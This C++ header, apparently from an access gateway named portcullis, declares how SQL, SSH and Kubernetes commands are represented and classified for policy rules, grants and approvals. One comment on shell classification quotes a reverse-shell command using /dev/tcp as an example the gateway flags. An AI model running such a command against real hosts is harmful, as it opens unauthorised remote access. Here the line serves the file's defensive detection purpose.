// Command: what a caller asked for. A common part every rule can match (protocol, connection,
// text) and a part of its protocol's kind: the SQL facts of a statement, or the command line
// or operation of an SSH session; a kubectl exec, or a Kubernetes request's attributes, as
// front ends come.
// Front ends build one per command they are about to forward; the decision point, the
// journal and approvals read it.
#pragma once

#include <cstdint>
#include <memory>
#include <optional>
#include <string>
#include <string_view>
#include <variant>
#include <vector>

#include "shell/command_line.h"
#include "shell/scp_request.h"
#include "sql/statement.h"

namespace portcullis::policy {

// What happens to the command once it is allowed.
enum class Intent {
  run,      // it runs now: recorded with its outcome, held when a rule asks for a review
  prepare,  // a text kept to run later (PostgreSQL's Parse): recorded as prepared, never held;
            // every run of it is decided again
};

// The SQL part: PostgreSQL today (MySQL with its front end).
struct SqlCommand {
  // What the statement classifier found in the text: one sql::Statement per statement, with
  // its kind, classes, tables, functions and flags. Shared with the classification cache.
  std::shared_ptr<const sql::Classification> classification;
  // Whether values were bound to the text (extended protocol, fast-path call): they are
  // recorded, and an approval is bound to them.
  bool bound = false;
  // Bound parameter values in text form (nullopt: NULL; binary values are shown
  // hex-encoded as \x...).
  std::vector<std::optional<std::string>> params;
  // The planner's estimate of the rows each statement writes (by index into the
  // classification's statements), for guardrails with `rows_over`; nullopt where it could not
  // be made. Empty when no such guardrail applies.
  std::vector<std::optional<uint64_t>> estimated_rows;
};

// The SSH part: a command line the target's shell is to run (an exec request, or a line typed
// at an interactive shell's prompt), or an SSH operation that is not a command line (opening an
// interactive shell, an sftp or scp file operation, a port forward). Built by the builders
// below, which keep the classes true to the line; a front end only picks the builder.
struct ShellCommand {
  // What is asked, in the journal's words: "exec" (a command line), "shell", "sftp" (opening
  // an sftp session), "scp" (opening a legacy scp transfer), "sftp_read", "sftp_write" (one
  // of their file operations), "forward" (a port forward), "agent" (agent forwarding).
  std::string kind;
  // The command line as the shell reader found it; null for an operation that is not one.
  std::shared_ptr<const shell::CommandLine> line;
  // The ssh classes the command needs, sorted and without repeats: exec, shell, file_write,
  // sftp, forward, agent, unknown. The grant must allow every one of them.
  std::vector<std::string> classes;
  // The paths a file operation names (an sftp write's file, a rename's both ends), normalised
  // as shell::normalise_path does, or a port forward's destination (HOST:PORT), for
  // guardrails on `paths`. Empty for a command line: its paths are read from its commands.
  std::vector<std::string> paths;

  bool needs(std::string_view name) const;
};

// A command line (an exec request's, or one typed at a shell's prompt). Classes: exec; plus
// file_write when an output redirection writes a file (not /dev/null); forward when a
// redirection to /dev/tcp/HOST/PORT or /dev/udp/... opens a connection from the target, since
// that reaches other hosts from inside as a port forward does (the reverse shell
// `bash -i >& /dev/tcp/HOST/PORT 0>&1`); unknown when the reader cannot tell what it runs.
ShellCommand read_shell_command(std::string_view line);

// A line typed at an interactive shell's prompt, as read_shell_command reads it; when the
// gateway could not follow every key that made it (`followed` false: Tab completion, history,
// cursor movement), the shell may run another text than this one, and the line is also class
// unknown.
ShellCommand read_typed_line(std::string_view line, bool followed);

// A line typed at a shell's prompt that the terminal did not show (echo off: a password, or
// `stty -echo`): the gateway does not read it, and it is class unknown.
ShellCommand hidden_typed_line();

// Opening an interactive shell: class shell. What is typed at its prompt is decided line by
// line, best effort, with read_shell_command.
ShellCommand open_shell();

// Opening an sftp session (the subsystem scp uses too): class sftp. Each file operation in it
// is decided on its own with transfer_files.
ShellCommand open_sftp();

// A legacy scp transfer (`scp -t PATH` or `scp -f PATH`, as shell::read_scp_request reads an
// exec request): class sftp, and file_write when the host receives files (-t); not exec, and
// no command line, so a grant's `programs` does not apply: a transfer is a matter of its
// class. PATH is kept, normalised, for `paths` guardrails. Each file or directory its stream
// carries is decided on its own with transfer_files.
ShellCommand open_scp(const shell::ScpRequest& request);

// An sftp or scp file operation on `paths`: class sftp, and file_write when it writes
// (creates, changes, renames or removes a file, or changes its attributes).
ShellCommand transfer_files(bool writes, std::vector<std::string> paths);

// A port forward the client asked for: a connection from the target host to `destination`
// (`ssh -L`, `-D`, `-W`), or a port the target host is to listen on for the client (`ssh -R`),
// written HOST:PORT: class forward. The address is kept as the operation's path, so that
// guardrails on `paths` match it (`10.0.0.*:5432`).
ShellCommand forward_port(std::string destination);

// Agent forwarding (`ssh -A`): programs on the host may use the caller's SSH agent, to sign
// with the caller's keys for as long as the session lasts: class agent.
ShellCommand forward_agent();

// The Kubernetes part: one API request, as its method, path and query say (the front end's
// codec reads them), with the classes it needs. Built by read_kube_request.
struct KubeCommand {
  // get, list, watch, create, update, patch, delete, deletecollection, exec, attach,
  // portforward, proxy.
  std::string verb;
  std::string group;           // the API group; empty for the core group
  std::string resource;        // plural, lower case: pods, secrets, deployments
  std::string subresource;     // log, exec, status, scale, token, ...; empty for the object
  std::string namespace_name;  // empty for a cluster-scoped resource
  // The object's name; for a collection request narrowed to one object by its field selector,
  // that object's; empty for the whole collection.
  std::string name;
  // Discovery (/version, /api, /apis, /openapi/...): what kubectl reads before anything else,
  // allowed to everyone the connection is granted to.
  bool discovery = false;
  // exec: the command it runs, read as an ssh exec command line is; null otherwise.
  std::shared_ptr<const ShellCommand> exec;
  // The SHA-256 of the request's body (hex), which an approval is bound to as well as the text
  // (the journal may show the body shortened or with secrets redacted); empty without a body.
  std::string body_sha256;
  // What the request needs, sorted and without repeats: read, secrets, write, exec, forward,
  // admin; plus, for exec, the command line's own classes beyond exec (file_write, forward,
  // unknown). Empty for discovery.
  std::vector<std::string> classes;

  bool needs(std::string_view name) const;
  // "pods", "pods/log": what an access rule's `resources` and a guardrail's `resources` list.
  // exec and attach are governed by the resource itself ("pods").
  std::string resource_key() const;
};

// Fills `request.classes` (and `request.exec` from `exec_line`, the exec command's words quoted
// into one shell line) from what the codec read:
// - admin: RBAC (rbac.authorization.k8s.io), certificate signing (certificates.k8s.io),
//   admission webhooks (admissionregistration.k8s.io), nodes, service-account tokens
//   (serviceaccounts/token), token and access reviews of other subjects;
// - exec: exec and attach; forward: portforward and proxy;
// - write: create, update, patch, delete, deletecollection;
// - secrets: get, list, watch of secrets; read: any other get, list or watch (a caller's review
//   of its own access, which kubectl auth can-i creates, is a read).
KubeCommand read_kube_request(KubeCommand request, std::optional<std::string_view> exec_line);

// The programs a shell command runs, each once in the order the line runs them, wrappers
// (sudo, env, ...) included: a name as shell::program_name gives it, or the program word as
// written when it has none (`./run.sh`, `$CMD`). For the journal; empty for an operation.
std::vector<std::string> programs_run(const ShellCommand& command);

struct Command {
  // The common part every rule can match.
  std::string_view protocol;  // the front end's name: "postgres", "ssh", "kubernetes"
  std::string connection;     // name of the connection in the configuration
  std::string text;           // the full text as the caller sent it
  // How it arrived, in the protocol's own words, for logs and tests: for PostgreSQL "query"
  // (simple protocol), "parse", "execute" (extended protocol), "function_call"; for SSH the
  // request ("exec", "shell", "sftp", "forward"); for Kubernetes the HTTP method.
  std::string_view via;
  Intent intent = Intent::run;
  // The protocol's part.
  std::variant<SqlCommand, ShellCommand, KubeCommand> detail;

  const SqlCommand* sql() const { return std::get_if<SqlCommand>(&detail); }
  SqlCommand* sql() { return std::get_if<SqlCommand>(&detail); }
  const ShellCommand* shell() const { return std::get_if<ShellCommand>(&detail); }
  ShellCommand* shell() { return std::get_if<ShellCommand>(&detail); }
  const KubeCommand* kube() const { return std::get_if<KubeCommand>(&detail); }
};

}  // namespace portcullis::policy
